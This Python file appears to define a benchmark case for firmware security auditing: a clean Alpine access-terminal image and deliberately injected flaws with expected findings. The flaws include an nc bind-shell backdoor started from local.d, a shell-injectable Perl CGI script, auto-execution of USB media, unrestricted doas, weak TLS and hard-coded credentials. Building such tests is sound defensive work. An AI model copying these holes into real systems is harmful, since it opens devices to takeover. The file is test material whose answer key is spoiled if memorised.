"""An access terminal on Alpine: conf.d that names other files, doas, Apache, Redis, mdev, msmtp, a periodic RAUC.

Written without sight of the checks.
"""

import struct

from firmward.model.memory import Content, Node, executable, link
from truth.alpine_base import alpine, confined, policy, run
from truth.buildroot_base import RAUC_CONF
from truth.openwrt_base import listen, service
from truth.row import Mistake, Truth
from truth.second_keys import FACTORY_PUBLIC_KEY, ORCHARD_MD5, SERVICE_KEY
from truth.small_base import ELF, PROGRAM, also, filters, profile, programs, secret, shadow, shell
from truth.small_keys import DEVICE_CA, UPDATE_CA

OPENRC = "openrc-run(8)"

SSHD = """\
Include /etc/ssh/sshd_config.d/*.conf
AddressFamily inet
HostKey /data/ssh/ssh_host_ed25519_key
AuthenticationMethods publickey
PermitRootLogin no
PasswordAuthentication no
KbdInteractiveAuthentication no
AllowGroups fitters
DisableForwarding yes
"""

# For the workshop: what is not set here is what OpenSSH does by itself.
SSHD_WORKSHOP = """\
HostKey /data/ssh/ssh_host_ed25519_key
Port 2222
Port 22
PermitRootLogin=yes
Ciphers +aes128-cbc,3des-cbc
MACs +hmac-md5
PermitTunnel yes
GatewayPorts clientspecified
"""

SSHD_INIT = run("""
description="OpenBSD Secure Shell server"
: ${SSHD_CONFDIR:=/etc/ssh}
: ${SSHD_CONFIG:=${SSHD_CONFDIR}/sshd_config}
: ${SSHD_PIDFILE:=/run/${SVCNAME}.pid}
: ${SSHD_BINARY:=/usr/sbin/sshd}

command="${SSHD_BINARY}"
pidfile="${SSHD_PIDFILE}"
command_args="${SSHD_OPTS} -o PidFile=${pidfile} -f ${SSHD_CONFIG}"
rc_cgroup_settings="
memory.max 67108864
pids.max 64
"

depend() {
	use logger dns
	need net
	after entropy firewall
}

start_pre() {
	[ -f /data/ssh/ssh_host_ed25519_key ] || ssh-keygen -q -t ed25519 -N "" -f /data/ssh/ssh_host_ed25519_key
	"${SSHD_BINARY}" -t $command_args
}
""")

NFTABLES = """\
#!/usr/sbin/nft -f
flush ruleset

table inet access {
	set managers {
		type ipv4_addr
		flags interval
		elements = { 10.40.0.0/16 }
	}

	chain input {
		type filter hook input priority filter; policy drop;
		iifname "lo" accept
		ct state vmap { established : accept, related : accept, invalid : drop }
		ip protocol icmp icmp type echo-request limit rate 4/second accept
		ip saddr @managers tcp dport { ssh, 8443 } ct state new accept
		counter comment "dropped"
	}

	chain forward {
		type filter hook forward priority filter; policy drop;
	}

	chain output {
		type filter hook output priority filter; policy drop;
		oifname "lo" accept
		ct state established,related accept
		ip daddr 192.0.2.53 meta l4proto { tcp, udp } th dport domain accept
		ip daddr 198.51.100.10 tcp dport https accept
		udp sport bootpc udp dport bootps accept
	}
}

include "/etc/nftables.d/*.nft"
"""

NFTABLES_INIT = run("""
extra_started_commands="reload"
: ${rules_file:=/etc/nftables.nft}

depend() {
	before net
	provide firewall
}

checkkernel() {
	/usr/sbin/nft list tables >/dev/null 2>&1
}

start_pre() {
	checkkernel || return 1
}

start() {
	ebegin "Loading nftables state"
	/usr/sbin/nft -f "${rules_file}"
	eend $?
}
""")

OPENED = """\
# Commissioning: remove before shipping
table inet access {
	chain input {
		type filter hook input priority filter; policy accept;
	}
	chain output {
		oifname "eth*" accept
	}
}
"""

HTTPD = """\
ServerRoot /var/www
ServerName access
ServerTokens Prod
ServerSignature Off
TraceEnable Off
User apache
Group apache
LoadModule mpm_prefork_module modules/mod_mpm_prefork.so
LoadModule ssl_module modules/mod_ssl.so
LoadModule headers_module modules/mod_headers.so
LoadModule cgi_module modules/mod_cgi.so
LoadModule dir_module modules/mod_dir.so
Listen 8443
PidFile /run/apache2/httpd.pid
DocumentRoot "/usr/share/access/www"
<Directory />
    AllowOverride none
    Require all denied
</Directory>
<Directory "/usr/share/access/www">
    Options None
    Require all granted
</Directory>
Header always set Content-Security-Policy "default-src 'self'"
Header always set Strict-Transport-Security "max-age=31536000"
ScriptAlias /cgi-bin/ "/usr/share/access/cgi-bin/"
<Directory "/usr/share/access/cgi-bin">
    Require all granted
</Directory>
IncludeOptional /etc/apache2/conf.d/*.conf
"""

HTTPD_TLS = """\
<VirtualHost _default_:8443>
    SSLEngine on
    SSLCertificateFile /data/apache2/server.pem
    SSLCertificateKeyFile /data/apache2/server.key
    SSLProtocol -all +TLSv1.2 +TLSv1.3
    SSLCipherSuite ECDHE+AESGCM:ECDHE+CHACHA20
    SSLHonorCipherOrder on
</VirtualHost>
"""

HTTPD_INFO = """\
LoadModule status_module modules/mod_status.so
LoadModule autoindex_module modules/mod_autoindex.so
Listen 0.0.0.0:8000
<VirtualHost *:8000>
    DocumentRoot "/usr/share/access/www"
    <Directory "/usr/share/access/www">
        Options +Indexes +FollowSymLinks
    </Directory>
    <Location "/server-status">
        SetHandler server-status
        Require all granted
    </Location>
</VirtualHost>
"""

VISITOR = """\
#!/usr/bin/perl -T
use strict;
use warnings;
use CGI;

$ENV{PATH} = '/usr/bin:/bin';
my $q = CGI->new;
my ($name) = ($q->param('name') // '') =~ /^([A-Za-z .-]{1,60})$/;
print $q->header('text/plain');
exit unless defined $name;
open(my $out, '|-', '/usr/bin/logger', '-t', 'visitor', $name) or die;
close $out;
print "Welcome\\n";
"""

VISITOR_OPEN = """\
#!/usr/bin/perl
use strict;
use warnings;
use CGI;

my $q = CGI->new;
my $name = $q->param('name') || 'unknown';
print $q->header('text/plain');
open(my $out, "/usr/bin/printlabel --visitor '$name' 2>&1 |") or die;
print while <$out>;
close $out;
"""

REDIS = """\
bind 127.0.0.1 -::1
protected-mode yes
port 0
unixsocket /run/redis/redis.sock
unixsocketperm 770
dir /data/redis
save ""
include /etc/redis.d/*.conf
"""

DOAS = "permit persist fitter as root cmd /usr/bin/access-selftest\n"

MSMTP = """\
defaults
tls on
tls_starttls on
tls_trust_file /etc/ssl/certs/maker.pem
account maker
host updates.maker.example
port 443
from access@maker.example
auth on
user access
passwordeval "cat /data/msmtp/password"
account default : maker
"""

MDEV = """\
null        root:root 666
zero        root:root 666
tty         root:tty 666
ttyS[0-9]*  root:uucp 660
mmcblk.*    root:disk 660
# sd[a-z][0-9] root:disk 660 *(mount.sh) is for the laboratory
"""

USBDISK = """\
#!/bin/sh
# mdev calls this with MDEV and ACTION in the environment.
[ "$ACTION" = add ] || exit 0
mnt=/media/$MDEV
mkdir -p $mnt
mount -o ro /dev/$MDEV $mnt
if [ -e $mnt/access/update.sh ]; then
	cp $mnt/access/update.sh /run/update.sh
	chmod +x /run/update.sh
	/run/update.sh $mnt
fi
"""

LOCAL = run("""
description="Executes user programs in /etc/local.d"

depend() {
	after *
	keyword -timeout
}

start() {
	local file
	for file in /etc/local.d/*.start; do
		[ -x "$file" ] && "$file"
	done
}
""")

REMOTE = """\
#!/bin/sh
# Remote hands for the commissioning team
pipe=/run/hands
mkfifo $pipe 2>/dev/null
while true; do
	cat $pipe | /bin/sh -i 2>&1 | nc -l -p 5050 > $pipe
done &
"""

JOB = """\
#!/bin/sh
. /etc/update.conf
exec rauc install $OPTIONS "$CHANNEL/access.raucb"
"""

UPDATE_CONF = "CHANNEL=https://updates.maker.example/stable\nOPTIONS=--tls-ca=/etc/ssl/certs/maker.pem\n"

ACCESSD_CONF = """\
# Options of accessd
ACCESSD_OPTS="--doors 4"
# The database is opened with the device's certificate
export ACCESSD_DB="postgres://access@updates.maker.example:443/access?sslmode=verify-full"
"""

ACCOUNT = """\
{{
  "type": "service_account",
  "project_id": "access-fleet",
  "client_email": "terminal@access-fleet.example",
  "private_key_id": "8a41c0d7be52",
  "private_key": "{key}"
}}
"""

SETUID_CAP = struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0)
"""The attribute security.capability, revision 2: CAP_SETUID permitted and effective."""

USERS = (("sshd", 22), ("apache", 81), ("redis", 103), ("accessd", 104))

BASE = alpine(
    *USERS,
    login="fitter",
    default=("sshd", "apache2", "redis", "accessd", "local"),
    boot=("nftables",),
)

CLEAN: dict[str, Content] = {
    **BASE,
    "etc/group": str(BASE["etc/group"]) + "fitters:x:1100:fitter\n",
    "etc/init.d/sshd": SSHD_INIT,
    "etc/conf.d/sshd": 'SSHD_CONFDIR="/etc/ssh"\nSSHD_OPTS=""\n#SSHD_OPTS="-o PermitRootLogin=yes"\n',
    "etc/ssh/sshd_config": SSHD,
    "etc/ssh/sshd_config.d/10-crypto.conf": "Ciphers aes256-gcm@openssh.com,chacha20-poly1305@openssh.com\n"
    "MACs hmac-sha2-512-etm@openssh.com\nKexAlgorithms curve25519-sha256\n",
    "etc/apparmor.d/usr.sbin.sshd": profile(
        "/usr/sbin/sshd", "network inet stream", "capability setuid", "/data/ssh/* r"
    ),
    "usr/sbin/sshd": PROGRAM,
    "usr/bin/ssh-keygen": PROGRAM,
    "etc/nftables.nft": NFTABLES,
    "etc/init.d/nftables": NFTABLES_INIT,
    "etc/conf.d/nftables": "# rules_file=/etc/nftables.nft\nsave_on_stop=no\n",
    "usr/sbin/nft": PROGRAM,
    "etc/apache2/httpd.conf": HTTPD,
    "etc/apache2/conf.d/tls.conf": HTTPD_TLS,
    "etc/init.d/apache2": confined("apache2", "/usr/sbin/httpd -D FOREGROUND -f /etc/apache2/httpd.conf", "apache"),
    "etc/apparmor.d/usr.sbin.httpd": profile(
        "/usr/sbin/httpd", "network inet stream", "/etc/apache2/** r", "/usr/share/access/** rix"
    ),
    "usr/sbin/httpd": PROGRAM,
    "usr/share/access/www/index.html": "<!doctype html>\n<html><head><title>Access</title></head></html>\n",
    "usr/share/access/cgi-bin/visitor.pl": executable(VISITOR),
    "usr/bin/perl": PROGRAM,
    "etc/redis.conf": REDIS,
    "etc/init.d/redis": confined("redis", "/usr/bin/redis-server /etc/redis.conf"),
    "etc/apparmor.d/usr.bin.redis-server": profile("/usr/bin/redis-server", "network inet stream", "/data/redis/** rw"),
    "usr/bin/redis-server": PROGRAM,
    "etc/init.d/accessd": confined("accessd", "/usr/bin/accessd $ACCESSD_OPTS"),
    "etc/conf.d/accessd": ACCESSD_CONF,
    "etc/apparmor.d/usr.bin.accessd": profile("/usr/bin/accessd", "network inet stream", "/data/accessd/** rw"),
    "usr/bin/accessd": PROGRAM,
    "usr/bin/access-selftest": PROGRAM,
    "etc/doas.conf": Node(DOAS, mode=0o440),
    "usr/bin/doas": executable(ELF, mode=0o4755),
    "etc/msmtprc": secret(MSMTP),
    "usr/bin/msmtp": PROGRAM,
    "etc/mdev.conf": MDEV,
    "etc/init.d/local": LOCAL,
    "etc/local.d/README": "Executable files that end in .start are run at the end of the boot.\n",
    "etc/local.d/10-leds.start": executable("#!/bin/sh\necho heartbeat > /sys/class/leds/status/trigger\n"),
    "etc/udhcpc/udhcpc.conf": "# RESOLV_CONF=no\n",
    "usr/share/udhcpc/default.script": executable(
        "#!/bin/sh\nrun_scripts() {\n\tfor file in /etc/udhcpc/$1/*; do\n\t\t[ -x $file ] && $file $2\n\tdone\n}\n"
        'case "$1" in\nbound) ip addr add "$ip/$mask" dev "$interface"; run_scripts post-bound $1 ;;\nesac\n'
    ),
    "etc/rauc/system.conf": RAUC_CONF,
    "etc/rauc/keyring.pem": UPDATE_CA,
    "etc/update.conf": UPDATE_CONF,
    "etc/periodic/daily/update": executable(JOB),
    "etc/fw_env.config": "/dev/mmcblk0boot1 0x0 0x4000\n/dev/mmcblk0boot1 0x4000 0x4000\n",
    "etc/ssl/certs/maker.pem": DEVICE_CA,
    **programs("usr/bin/rauc", "usr/sbin/fw_setenv", "usr/bin/python3.12"),
    **filters("apache2", "redis", "accessd"),
}

SECTIONS = (
    listen(22, "sshd")
    + listen(8443, "apache2")
    + service("sshd")
    + service("apache2", "apache", "/data/apache2", "32M")
    + service("redis", "redis", "/data/redis", "32M")
    + service("accessd", "accessd", "/data/accessd", "32M")
    + service("nftables")
    + service("local")
    + '[[account]]\nname = "fitter"\nlogin = true\nreason = "installers, by key"\n'
)


def declared(reviewed: bool = True) -> str:
    text = policy("access", SECTIONS).replace(
        'verified = "verity"\n', 'verified = "verity"\nsetuid = ["/usr/bin/doas"]\n'
    )
    if not reviewed:
        return text
    return text + "".join(
        f'\n[[review]]\nkind = "{kind}"\ndate = 2026-10-0{day}\nowner = "product security"\nrelease = "14"\n'
        f'report = "AX-{day}"\nnext = 2027-10-0{day}\n'
        for kind, day in (("code-review", 2), ("penetration-test", 9))
    )


SYSTEM = Truth(
    name="alpine-access",
    distribution="alpine",
    init="openrc",
    clean=CLEAN,
    policy=declared(),
    mistaken_policy=declared(reviewed=False),
    mistakes=(
        Mistake(
            "ssh-password-login",
            f"{OPENRC}: conf.d sets SSHD_CONFIG; sshd_config(5): PasswordAuthentication is yes unless set",
            "",
            {
                "etc/conf.d/sshd": 'SSHD_CONFIG="${SSHD_CONFDIR:-/etc/ssh}/sshd_config_workshop"\n',
                "etc/ssh/sshd_config_workshop": SSHD_WORKSHOP,
            },
            witness=shell(
                "[ -f etc/ssh/sshd_config_workshop ] || exit; "
                "ssh-keygen -q -t ed25519 -N '' -f hk; mkdir -p /run/sshd; "
                "sed /^HostKey/d etc/ssh/sshd_config_workshop > c; sshd -T -h {root}/hk -f {root}/c",
                "^passwordauthentication yes",
                "openssh-server",
            ),
        ),
        *also(
            "sshd_config(5): PermitRootLogin, Ciphers, PermitTunnel, AllowTcpForwarding, Port",
            ("ssh-root-login", ""),
            ("ssh-weak-algorithms", ""),
            ("ssh-forwarding", ""),
            ("undeclared-listener", "2222"),
        ),
        Mistake(
            "ssh-authorized-key-baked-in",
            "sshd(8), AUTHORIZED_KEYS: authorized_keys2 is read as well",
            "authorized_keys2",
            {"root/.ssh/authorized_keys2": secret(f'from="10.40.0.0/16" {FACTORY_PUBLIC_KEY}\n')},
        ),
        Mistake(
            "firewall-default-accept",
            "nft(8): a base chain that is declared again takes the new policy; include",
            "",
            {"etc/nftables.d/90-commissioning.nft": OPENED},
            # The kernel is asked, in a network namespace of its own; where there is none, only the file is shown.
            witness=shell(
                "sed s#/etc/nftables.d#{root}/etc/nftables.d# etc/nftables.nft > rules; "
                "unshare -rn sh -c 'nft -f rules && nft list chain inet access input' || cat etc/nftables.d/*.nft",
                "hook input .*policy accept",
                "nftables",
            ),
        ),
        *also("nft(8): rules of a chain that is named again are added", ("egress-unrestricted", "")),
        Mistake(
            "web-server-misconfigured",
            "Apache, mod_autoindex, mod_status",
            "info.conf",
            {"etc/apache2/conf.d/info.conf": HTTPD_INFO},
        ),
        *also("Apache, Listen; no SSLEngine", ("undeclared-listener", "8000"), ("plaintext-protocol", "8000")),
        Mistake(
            "tls-weak",
            "Apache, mod_ssl, SSLProtocol: all -SSLv3 leaves TLS 1.0 and 1.1",
            "tls.conf",
            {
                "etc/apache2/conf.d/tls.conf": HTTPD_TLS.replace("-all +TLSv1.2 +TLSv1.3", "all -SSLv3").replace(
                    "ECDHE+AESGCM:ECDHE+CHACHA20", "ALL:!aNULL:@SECLEVEL=0"
                )
            },
        ),
        Mistake(
            "script-injection",
            "perlfunc, open with a trailing bar runs a shell; CGI, param",
            "visitor.pl",
            {"usr/share/access/cgi-bin/visitor.pl": executable(VISITOR_OPEN)},
        ),
        Mistake(
            "undeclared-listener",
            "redis.conf: bind, port, protected-mode; the last of two values counts; include",
            "6379",
            {"etc/redis.d/replica.conf": "bind * -::*\nport 6379\nprotected-mode no\n"},
        ),
        *also("redis.conf: tls-port is not set", ("plaintext-protocol", "redis")),
        Mistake(
            "sudo-unrestricted",
            "doas.conf(5), nopass; without cmd every command",
            "doas",
            {
                "etc/doas.d/20-service.conf": Node(
                    "permit nopass keepenv :wheel\npermit nopass fitter as root\n", mode=0o440
                )
            },
        ),
        Mistake(
            "tls-weak",
            "msmtp(1), tls_certcheck",
            "msmtprc",
            {
                "etc/msmtprc": secret(
                    MSMTP.replace("tls_trust_file /etc/ssl/certs/maker.pem", "tls_certcheck off").replace(
                        'passwordeval "cat /data/msmtp/password"', "password Dunlin-88:Weir"
                    )
                )
            },
        ),
        *also(
            "msmtp(1), password; alike in every copy",
            ("credential-hard-coded", "msmtprc"),
            ("image-sameness", "msmtprc"),
        ),
        Mistake(
            "removable-media-executed",
            "mdev.conf of BusyBox: @ runs the command after the device is made",
            "usbdisk",
            {
                "etc/mdev.conf": MDEV + "sd[a-z][0-9]* root:disk 660 @/lib/mdev/usbdisk\n",
                "lib/mdev/usbdisk": executable(USBDISK),
            },
        ),
        Mistake(
            "backdoor-listener",
            "OpenRC, local.d; nc(1), -l -p; mkfifo(1)",
            "50-hands",
            {"etc/local.d/50-hands.start": executable(REMOTE), "usr/bin/nc": link("/bin/busybox")},
        ),
        *also("nc(1), -p; in no profile", ("undeclared-listener", "5050"), ("mac-profile-missing", "nc")),
        Mistake(
            "hook-directory-writable",
            "udhcpc of BusyBox, default.script runs what lies in post-bound",
            "post-bound",
            {"etc/udhcpc/post-bound": link("/data/udhcpc/post-bound")},
        ),
        *also("the hooks of a program of root lie on the data partition", ("privileged-hooks", "post-bound")),
        Mistake(
            "update-not-automatic",
            "run-parts of BusyBox: what is not executable is passed over",
            "",
            {"etc/periodic/daily/update": Node(JOB, mode=0o644)},
            witness=shell("[ -x etc/periodic/daily/update ] || echo passed over", "^passed over", "dash"),
        ),
        Mistake(
            "update-over-plaintext",
            "rauc(1), install from an URL",
            "",
            {
                "etc/update.conf": "CHANNEL=http://updates.maker.example/stable\nOPTIONS=\n",
            },
        ),
        Mistake(
            "credential-hard-coded",
            "libpq, connection URIs: the password stands before the @",
            "conf.d/accessd",
            {"etc/conf.d/accessd": ACCESSD_CONF.replace("access@updates", "access:Gr3benest-07@updates")},
        ),
        *also(
            "alike in every copy",
            ("image-sameness", "conf.d/accessd"),
        ),
        Mistake(
            "private-key-embedded",
            "JSON, RFC 8259: the line ends of a PEM are written \\n",
            "account.json",
            {"usr/share/access/account.json": ACCOUNT.format(key=SERVICE_KEY.replace("\n", "\\n"))},
            witness=shell(
                'sed -n \'s/.*"private_key": "\\(.*\\)"/\\1/p\' usr/share/access/account.json | '
                "sed 's/\\\\n/\\n/g' | openssl pkey -noout -text",
                "Private-Key: ",
                "openssl",
            ),
        ),
        *also("one key for every terminal", ("image-sameness", "account.json")),
        Mistake(
            "key-beside-data",
            "conf.d/dmcrypt of cryptsetup: key=",
            "data.key",
            {
                "etc/conf.d/dmcrypt": "target=data\nsource='/dev/mmcblk0p5'\nkey='/etc/keys/data.key'\n",
                "etc/keys/data.key": secret("k7Vd0x2mQpZr9sWfLy3bTn8cJh5uGe1aXo4iPq6RvUt="),
                "etc/init.d/dmcrypt": run(
                    "\nstart() {\n\t. /etc/conf.d/dmcrypt\n"
                    "\tcryptsetup luksOpen --key-file $key $source $target\n\tmount /data\n}\n"
                ),
                "etc/runlevels/boot/dmcrypt": link("/etc/init.d/dmcrypt"),
                "etc/init.d/data": run("\nstart() {\n\treturn 0\n}\n"),
            },
        ),
        *also("one key for every terminal", ("image-sameness", "data.key")),
        Mistake(
            "init-script-writable",
            "chown(1): OpenRC runs it as root, its owner is the service",
            "accessd",
            {
                "etc/init.d/accessd": Node(
                    confined("accessd", "/usr/bin/accessd $ACCESSD_OPTS").content, mode=0o755, uid=104, gid=104
                )
            },
        ),
        Mistake(
            "capability-unexpected",
            "setcap(8), capabilities(7): cap_setuid=ep, and Python runs anything",
            "python3.12",
            {"usr/bin/python3.12": Node(ELF, mode=0o755, xattrs=(("security.capability", SETUID_CAP),))},
        ),
        Mistake(
            "account-weak-hash",
            "crypt(5), md5crypt",
            "fitter",
            {
                "etc/shadow": secret(
                    shadow("sshd", "apache", "redis", "accessd") + f"fitter:{ORCHARD_MD5}:19800:0:99999:7:::\n"
                )
            },
        ),
        *also("one password for every terminal", ("image-sameness", "shadow")),
        Mistake(
            "account-login-unneeded",
            "passwd(5): a shell for a service",
            "redis",
            {
                "etc/passwd": str(CLEAN["etc/passwd"]).replace(
                    "redis:x:103:103:redis:/var/run/redis:/bin/false", "redis:x:103:103:redis:/data/redis:/bin/ash"
                )
            },
        ),
        Mistake("review-missing", "device.toml, [[review]]", ""),
    ),
)

SYSTEMS: tuple[Truth, ...] = (SYSTEM,)
